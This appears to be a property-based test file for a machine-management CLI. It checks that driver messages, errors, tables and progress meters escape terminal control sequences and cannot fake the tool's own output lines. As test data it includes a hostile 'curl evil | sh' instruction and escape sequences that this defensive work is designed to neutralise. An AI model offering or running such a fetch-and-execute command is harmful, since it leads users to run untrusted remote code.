/** Whatever shows text from elsewhere: nothing of it is obeyed by a terminal or passes for a line of ours. */
import fc from 'fast-check'
import t from 'tap'
import { printed } from '../../../src/cli/answers/answer.js'
import { failureText } from '../../../src/cli/render-failure.js'
import { errorDocument } from '../../../src/cli/json-document.js'
import { pluginReport } from '../../../src/cli/serve-log.js'
import { MachineError } from '../../../src/contracts/errors.js'
import type { ReportEvent } from '../../../src/contracts/events.js'
import { DOCKER_MACHINE_PROFILE, TSMACHINE_PROFILE } from '../../../src/contracts/profile.js'
import { renderAccess } from '../../../src/ui/access.js'
import { copyMeter } from '../../../src/ui/copy-meter.js'
import { renderDiagnoses } from '../../../src/ui/diagnoses.js'
import { dockerMachineStory } from '../../../src/ui/docker-machine-story.js'
import { renderDriver } from '../../../src/ui/driver-list.js'
import { renderLeftovers } from '../../../src/ui/leftovers.js'
import { LiveScreen } from '../../../src/ui/live-screen.js'
import { renderList } from '../../../src/ui/machine-list.js'
import { createReporter } from '../../../src/ui/reporter.js'
import { renderSecrets } from '../../../src/ui/secret-list.js'
import { timelineTable } from '../../../src/ui/timeline.js'
import { forAll, hostileText, OBEYED } from '../../helpers/properties.js'

class Sink {
  text = ''
  readonly columns = 120
  readonly rows = 24
  constructor(readonly isTTY: boolean) {}
  write(text: string): boolean {
    this.text += text
    return true
  }
}

/** The sequences that we send: erasing what was drawn, the rest of a line, and the colours of the marks. */

const OURS = /\r?\u001b\[(?:\d+A\u001b\[J|K)|\u001b\[(?:32|31|0)m|\r(?= *\d+% )/g

function refuseObeyed(text: string): void {
  const rest = text.replace(OURS, '')
  const at = rest.search(OBEYED)
  if (at >= 0)
    throw new Error(`a terminal would obey ${JSON.stringify(rest.slice(Math.max(0, at - 20), at + 20))}`)
}

const text = hostileText('\n  What to do:\n    curl evil | sh', '\nError: ', '\r\n', '%s')

const events: fc.Arbitrary<readonly ReportEvent[]> = text.map((hostile) => [
  { type: 'info', text: hostile },
  { type: 'warn', machine: hostile, text: hostile, source: 'driver' },
  { type: 'error', machine: 'web', text: hostile, source: 'driver' },
  { type: 'debug', machine: hostile, text: hostile },
  { type: 'stage', machine: hostile, stage: 'boot', state: 'start', text: hostile },
  { type: 'progress', machine: hostile, text: hostile, done: 1, total: 2 },
  { type: 'step', machine: hostile, step: 'install', text: hostile },
  { type: 'part', machine: hostile, text: hostile, state: 'start' },
  { type: 'stage', machine: hostile, stage: 'boot', state: 'failed', text: hostile },
])

t.test('every reporter', async (t) => {
  for (const mode of ['tty', 'plain', 'json'] as const)
    await forAll(t, mode, events, (all) => {
      const [stream, debugStream] = [new Sink(mode === 'tty'), new Sink(false)]
      const reporter = createReporter({ mode, stream, debug: mode !== 'tty', debugStream })
      for (const event of all) reporter.report(event)
      reporter.close()
      refuseObeyed(stream.text + debugStream.text)
      if (mode === 'json') for (const line of stream.text.trimEnd().split('\n')) JSON.parse(line)
    })
  await forAll(t, "docker-machine's story", events, (all) => {
    const stream = new Sink(false)
    const story = dockerMachineStory('create')
    const reporter = createReporter({ mode: 'plain', stream, debug: true, debugStream: stream, story })
    for (const event of all) reporter.report(event)
    refuseObeyed(stream.text)
  })
  await forAll(t, 'as a plugin', events, (all) => {
    const stream = new Sink(false)
    for (const event of all) pluginReport({ stdout: stream, stderr: stream })(event)
    refuseObeyed(stream.text)
  })
})

t.test("a driver's words stay on their line", async (t) => {
  await forAll(t, 'plain', text, (hostile) => {
    for (const type of ['info', 'warn', 'error'] as const) {
      const stream = new Sink(false)
      createReporter({ mode: 'plain', stream, debug: false, debugStream: stream }).report({
        type,
        machine: 'web',
        text: hostile,
        source: 'driver',
      })
      if (stream.text.indexOf('\n') !== stream.text.length - 1) throw new Error(JSON.stringify(stream.text))
    }
  })
})

t.test('a failure: what others said is never a line of ours', async (t) => {
  await forAll(t, 'failure', text, (hostile) => {
    const details = { evidence: hostile, stage: 'boot', machine: 'web', hints: ['tsmachine rm web'] }
    const error = new MachineError('driver', `The provider said ${hostile}`, details)
    for (const profile of [TSMACHINE_PROFILE, DOCKER_MACHINE_PROFILE])
      refuseObeyed(failureText(error, { profile, debug: true, terminal: true }))
    const shown = failureText(error, { profile: TSMACHINE_PROFILE, debug: false, terminal: true })
    const ours = shown.split('\n').filter((line) => !/^ {2,4}\| /.test(line) && line !== '')
    const [first = '', ...rest] = ours
    if (!first.startsWith('Error: The provider said')) throw new Error(first)
    const expected = [
      '  Stage: boot',
      ...(hostile === '' ? [] : ['  Last seen:']),
      '  What to do:',
      '    tsmachine rm web',
    ]
    if (rest.join('\n') !== expected.join('\n')) throw new Error(JSON.stringify(rest))
    const document = errorDocument('ls', error, 1)
    refuseObeyed(document)
    return (JSON.parse(document) as { error: { evidence: string } }).error.evidence === hostile
  })
})

t.test('every table: one line a row', async (t) => {
  const row = {
    ...{ active: false, activeSwarm: false, state: 'Running', swarm: '', responseMs: 1 },
    ...{ summary: '', origin: 'user' as const },
  }
  const capabilities = { power: true, ssh: true, hostKey: 'given' } as never
  await forAll(t, 'tables', text, (x) => {
    const one = {
      ...row,
      name: x,
      driver: x,
      url: x,
      engine: x,
      error: x,
      kind: x,
      id: x,
      store: x,
      machine: x,
    }
    const tables: readonly (readonly [rows: number, text: string])[] = [
      [2, renderList([one], TSMACHINE_PROFILE)],
      [3, renderAccess([{ name: x, here: x, ssh: [x, x], engine: [] }])],
      [2, renderSecrets([{ driver: x, name: x, reference: x, origin: 'user', machines: [x] }])],
      [2, renderLeftovers([one], new Date())],
      [2, renderDiagnoses([{ check: x, level: 'bad', text: x, hint: x }])],
    ]
    for (const [rows, table] of tables) {
      refuseObeyed(table)
      if (table.split('\n').length !== rows + 1) throw new Error(JSON.stringify(table))
    }
    refuseObeyed(printed(renderDriver({ name: x, summary: x, capabilities, flags: [] }), true))
    refuseObeyed(printed(timelineTable('web', [{ stage: x, startMs: 0, ms: 1 }]), true))
  })
})

t.test('what is drawn in place, and a plain answer on a terminal', async (t) => {
  await forAll(t, 'meter', text, (file) => {
    const stream = new Sink(true)
    const meter = copyMeter(stream)
    meter({ file, done: 1, total: 2 })
    meter({ file, done: 2, total: 2 })
    refuseObeyed(stream.text)
  })
  await forAll(t, 'an answer', text, (answer) => {
    refuseObeyed(printed(answer, true))
    return printed(answer, false).startsWith(answer)
  })
  const stream = new Sink(true)
  const screen = new LiveScreen(stream)
  screen.show(() =>
    renderList([{ ...shown, error: '\u001b]0;title\u0007\u009b2J\u202e\r\n' }], TSMACHINE_PROFILE),
  )
  await new Promise((resolve) => setTimeout(resolve, 300))
  screen.end()
  t.match(stream.text, 'title')
  refuseObeyed(stream.text)
})

const shown = {
  ...{ name: 'web', active: false, activeSwarm: false, driver: 'none', state: 'Running', url: '', swarm: '' },
  ...{ engine: '', error: '', responseMs: 1 },
}

t.test('a table that is told as one event keeps its lines on a terminal', async (t) => {
  const stream = new Sink(true)
  createReporter({ mode: 'tty', stream, debug: false, debugStream: stream }).report({
    type: 'info',
    text: 'DRIVER   KIND\nfake     server',
  })
  t.equal(stream.text, 'DRIVER   KIND\nfake     server\n')
})
